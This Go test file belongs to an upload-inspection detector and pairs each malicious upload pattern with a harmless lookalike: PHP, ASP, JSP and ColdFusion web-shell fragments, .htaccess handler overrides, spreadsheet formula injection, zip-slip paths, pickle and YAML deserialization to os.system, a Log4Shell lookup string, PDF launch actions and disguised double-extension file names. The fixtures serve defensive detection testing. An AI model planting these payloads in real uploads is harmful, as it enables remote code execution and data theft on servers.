package upload

import (
	"strings"
	"testing"

	"github.com/weirnode/weir/detect/detecttest"
	"github.com/weirnode/weir/point"
)

var detector = detecttest.Detector{Gate: Gate, Scan: Scan, Signs: Signs}

// TestSigns gives each sign a value that holds it and one that only looks like it.
func TestSigns(t *testing.T) {
	f := detector.CheckSigns(t)
	f(&imageCode, point.FileHead, "BM/*k*/=7;k()//", "BM\x00\x01k=7")
	f(&imageCode, point.FileHead, "GIF89a=7;k();//", "GIF89a\x01=7;k();")
	f(&testVirus, point.FileHead, `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`, `EICAR is a test file`)
	f(&readerCode, point.FileHead, "k,l\n=cmd|'/C k'!A7,m\n", "k,l\nuse cmd|'k'!,m\n")
	f(&scriptName, point.FileName, "a.php", "a.phpx")
	f(&hiddenName, point.FileName, "a.php.jpg", "a.pl.jpg")
	f(&configName, point.FileName, ".htaccess", "a.htaccess")
	f(&scriptTag, point.FileHead, "<?php echo 1;", "<?xml x")
	f(&imageScript, point.FileHead, "GIF89a<?php echo 1;", "GIF89a<?xpacket x")
	f(&commandCall, point.FileHead, "<?php system(1);", "<?php echo 1;")
	f(&commandCall, point.FileHead, "<?php eval($_GET[7]);", "<?php declare(strict_types=1); $k->execute([$_GET['k']]);")
	f(&commandCall, point.FileHead, "<?php namespace K; $_GET[0]($_GET[1]);", "<?php $k->exec('VACUUM');")
	f(&commandCall, point.FileHead, `<%@ Page Language="C#" %><% Response.Write(Request["k"]); %>`, `<%@ Page Language="C#" Inherits="_K" %><script runat="server">k.Text = Request["k"];</script>`)
	f(&oneLiner, point.FileHead, "<?php echo 1;", "<?php namespace A;")
	f(&settings, point.FileHead, "SetHandler x", "x: reSetHandler x")
	f(&activeImage, point.FileHead, "<?xml version='1.0'?><!--"+strings.Repeat("k", 9999)+"--><svg onload=k()>", "<!--"+strings.Repeat("k", 9999)+"--><svg/>")
	f(&settings, point.FileHead, strings.Repeat("# a remark of the owner\n", 400)+"SetHandler x", strings.Repeat("# a remark of the owner\n", 400)+"Require all denied")
	f(&hiddenName, point.FileName, "k.php/.", "k.png/.")
	f(&hiddenName, point.FileName, `k.jsp\`, `k.php`)
	f(&settings, point.FileHead, "# reSetHandler\nSetHandler\tcgi-script", "# reSetHandler\nreSetHandler\tx")
	f(&settings, point.FileHead, "AddOutputFilter INCLUDES .k", "AddOutputFilter DEFLATE .k")
	f(&settings, point.FileHead, "RewriteEngine on\nRewriteRule k$ - [L,H=cgi-script]", "RewriteEngine on\nRewriteRule ^k$ /l [L,R=301]\nRewriteRule m n [QSA,L]")
	f(&settings, point.FileHead, "RewriteRule . - [T=application/x-httpd-php]", "RewriteRule . - [T=text/css]")
	f(&commandCall, point.FileHead, "<!--#exec\n cmd='k' -->", "<!--#include file='k.html' -->")
	f(&commandCall, point.FileHead, "<?php class K{} require_once $_GET['k'];", "<?php class K{} require_once $k; $l = $_GET['k'];")
	f(&commandCall, point.FileHead, "<?php class K{} passthru/**/ ($_GET['k']);", "<?php class K{} show/**/ ($_GET['k']);")
	f(&activeImage, point.FileHead, "<svg onload=alert(1)>", "<svg><path/></svg>")
	f(&activePage, point.FileHead, "<html><script>x</script>", "<html><p>x</p>")
	f(&archiveStep, point.FileHead, "PK\x03\x04"+strings.Repeat("\x00", 22)+"\x05\x00\x00\x00../ab <", "PK\x03\x04"+strings.Repeat("\x00", 22)+"\x05\x00\x00\x00ab/cd <")
	f(&readerCode, point.FileHead, "[InternetShortcut]\nURL=file://k.example/l", "[InternetShortcut]\nURL=https://k.example/l")
	f(&readerCode, point.FileHead, "[Shell]\nIconFile=\\\\k\\l.ico", "[Shell]\nCommand=2")
	f(&readerCode, point.FileHead, "#EXTM3U\nhttp://169.254.169.254/k", "#EXTM3U\nhttp://192.0.2.7/k")
	f(&hiddenName, point.FileName, "k.cshtml", "k.xhtml")
	f(&configName, point.FileName, "authorized_keys", "authorized_keys.md")
	f(&archiveStep, point.FileHead, tar("k/l", "../l"), tar("k/l", "k/..m"))
	f(&scriptTag, point.FileHead, `<%@ WebHandler Language="C#" Class="K" %>`, `<%@ Master Language="C#" %>`)
	f(&scriptTag, point.FileHead, "ngx.say(1) os.execute(ngx.var.arg_k)", "ngx.var.uri is what the request asks for, and os.execute() is not there.")
	f(&readerCode, point.FileHead, "%!PS-Adobe\n(%pipe%id) (w) file", "%!PS-Adobe\n100 pipe file")
	f(&readerCode, point.FileHead, "push graphic-context\nfill 'url(https://a.example/\"|id\")'", "push graphic-context\nfill 'red'")
	f(&objects, point.FileName, `k|O:16:`, `VIDEO:16:9.mp4`)
	f(&objects, point.FileHead, "a: !!python/object/apply:os.system [id]", "a: !!python/tuple [1, 2]")
	f(&objects, point.FileHead, "cos\nsystem\n(S'id'\ntR.", "cost of the\nsystem ")
	f(&commandCall, point.FileHead, "#!/usr/bin/perl\nprint `$ENV{QUERY_STRING}`", "#!/usr/bin/perl\nprint 1")
	f(&scriptTag, point.FileHead, "function handle(r) r:puts(io.popen(r.args):read('*a')) end", "function update(r) print(io.popen('ls'):read('*a')) end")
	f(&commandCall, point.FileHead, "ngx.say(1) os.execute(ngx.var.arg_k)", "ngx.say(os.date())")
	f(&program, point.FileName, "a.exe", "a.exes")
	f(&readerCode, point.FileHead, `{\rtf1{\object\objautlink\objupdate{\*\objdata 01}}}`, `{\rtf1{\object\objemb{\*\objdata 01}}}`)
	f(&readerCode, point.FileHead, "%PDF-1.4\n<</S/Launch/F(cmd.exe)>>", "%PDF-1.4\n<</S/Launch/F(a.pdf)>>")
	f(&readerCode, point.FileHead, "[uwsgi]\nk = @(exec://id)", "[uwsgi]\nk = @(file://l)")
	f(&readerCode, point.FileHead, "k,l\n@SUM(1+1)*cmd|'/C k'!A7", "k,l\nsum*cmd|'k'!")
	f(&hiddenName, point.FileName, "k.asp .jpg", "k.as .jpg")
	f(&hiddenName, point.FileName, "k.php~.png", "k.ph~.png")
	f(&hiddenName, point.FileName, "k.php\u00a0", "k.png\u00a0")
	f(&imageCode, point.FileHead, "GIF89a<script src=//k.example></script>", "GIF89a<x:xmpmeta>")
	f(&readerCode, point.FileHead, "k,l\n=WEBSERVICE(\"http://k.example/\"&A1)", "k,l\n=SUM(A1)")
	f(&readerCode, point.FileHead, `%PDF-1.4 <</S/SubmitForm/F(\\\\192.0.2.7\\k)>>`, `%PDF-1.4 <</S/SubmitForm/F(https://k.example)>>`)
	f(&activePage, point.FileHead, `<meta http-equiv=refresh content="0;url=javascript:k()">`, `<meta charset=utf-8>`)
	f(&commandCall, point.FileHead, `<cfscript>createObject("java","java.lang.Runtime").getRuntime()`, `<cfscript>k=1;`)
	f(&commandCall, point.FileHead, "<?php @error_reporting(0);function k($l){return $l;}", "<?php error_reporting(E_ALL);function k($l){return $l;}")
	f(&commandCall, point.FileHead, `<cfexecute name="k">`, `<jsp:include page="k">`)
	f(&pictureText, point.FileHead, png("tEXt", "Title\x00<svg onload=k()>"), png("tEXt", "Title\x00<svg width=2>"))
	f(&pictureText, point.FileHead, png("iTXt", "Author\x00${jndi:ldap://k.example}"), png("IDAT", "Author\x00${jndi:ldap://k.example}"))
	f(&pictureText, point.FileHead, "\xff\xd8\xff\xe1\x00\x1aExif\x00\x00<script>k()</script>", "\xff\xd8\xff\xda\x00\x08Exif\x00\x00<script>k()</script>")
	f(&readerCode, point.FileHead, `<Relationships><Relationship Target="http://169.254.169.254/k" TargetMode="External"/>`, `<Relationships><Relationship Target="https://k.example/l" TargetMode="External"/>`)
	f(&readerCode, point.FileHead, "%PDF-1.4 <</FontMatrix[1 0 0 1 0 (k\\)//)]>>", "%PDF-1.4 <</FontMatrix[1 0 0 1 0 0]>>")
	f(&readerCode, point.FileHead, `%PDF-1.4 <</OpenAction<</S/JavaScript/JS(this.submitForm\("http://k.example"\))>>>>`, `%PDF-1.4 <</OpenAction<</S/JavaScript/JS(this.print\(true\))>>>>`)
	f(&commandCall, point.FileHead, `<!--#include file="/etc/k"-->`, `<!--#include virtual="/k.html"-->`)
	gap := strings.Repeat(" ", near)
	f(&commandCall, point.FileHead, "<?php class K{} ?>"+gap+"<?php passthru($k); ?>", "<?php class K{} ?>"+gap+"<?php echo $k; ?>")
	f(&commandCall, point.FileHead, "<?php class K{} /*"+gap+"*/passthru($_POST['k']);", "<?php class K{} /*"+gap+"*/$this->exec($_POST['k']);")
	f(&commandCall, point.FileHead, "<?php class K{} $k='pass'.'thru';$k($_POST['k']);", "<?php class K{} $k=$l->find($_POST['k']); $m->$k($_POST['k']);")
	f(&commandCall, point.FileHead, "<?php class K{} ('pass'.'thru')($_COOKIE['k']);", "<?php class K{} if (isset($k) && ($_COOKIE['k'])) {}")
	f(&commandCall, point.FileHead, strings.Repeat("<b>", 99)+"<?php passthru($_POST['k']);", strings.Repeat("<b>", 99)+"<?php class K{} retrieve($_POST['k']);")
	f(&settings, point.FileHead, `<system.web><httpHandlers><add/>`, `<system.web><pages/>`)
}

// png returns the beginning of a picture with one chunk behind its head.
func png(kind, content string) string {
	const head = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
	return head + "\x00\x00\x00" + string(rune(len(content))) + kind + content + "\x00\x00\x00\x00"
}

// TestDestinations reads where files are to be moved to.
func TestDestinations(t *testing.T) {
	f := func(field, text string, want int) {
		t.Helper()
		best := detector.ReadNamed(point.Header, field, text, point.HeaderText)
		if best.Score() != want {
			t.Errorf("%s: %s scores %d, want %d", field, text, best.Score(), want)
		}
	}
	f("Destination", "/dav/k.asp;.txt", 8)
	f("Destination", "https://a.example/dav/k.jsp%00.png", 8)
	f("destination", "/dav/k.pHp", 8)
	f("Destination", "https://cloud.example/remote.php/dav/files/k/index.php", 0)
	f("Destination", "https://cloud.example/remote.php/dav/files/k/notes.txt", 0)
	f("Destination", "/dav/.htaccess", 0)
	f("X-Original-URI", "/dav/k.asp;.txt", 0)
}

// TestNamed holds the names of uploads that fields tell to what must come of them.
func TestNamed(t *testing.T) {
	names := detecttest.Detector{Gate: GateName, Scan: ScanName}
	f := func(field, text string, want int) {
		t.Helper()
		best := names.ReadNamed(point.Hash, field, text, point.Text)
		if best.Score() != want {
			t.Errorf("%s: %s scores %d, want %d", field, text, best.Score(), want)
		}
	}
	f("filename", "k.php5", 8)
	f("fileName", "k.jpg.phtml", 8)
	f("file_name", "k.php.jpg", 8)
	f("saveAs", "k.jSp", 8)
	f("filename", "k.asp;.jpg", 8)
	f("filename", "index.php", 0)
	f("filename", "index.php.pdf", 0)
	f("filename", "Index.cshtml", 0)
	f("filename", "k_test.phpt", 0)
	f("filename", "view.blade.php", 0)
	f("filename", "app.js", 0)
	f("filename", "a.phone.txt", 0)
	f("title", "k.php5", 0)
}

// TestWorstCasesEnd feeds inputs that could make a scan quadratic.
func TestWorstCasesEnd(*testing.T) {
	detector.ReadRepeated(point.FileHead, "<", "<?php", "<%", "PK\x03\x04", "<?=", ".", "\x00", ";")
}

func FuzzScan(f *testing.F) {
	detector.Fuzz(f, point.FileHead, "<?php system($_GET[1]);", "GIF8<?php ", "<svg onload=x>", "a.php.jpg", "PK\x03\x04", png("tEXt", "k\x00<script"), "\xff\xd8\xff\xe1\x00\x09<script")
}
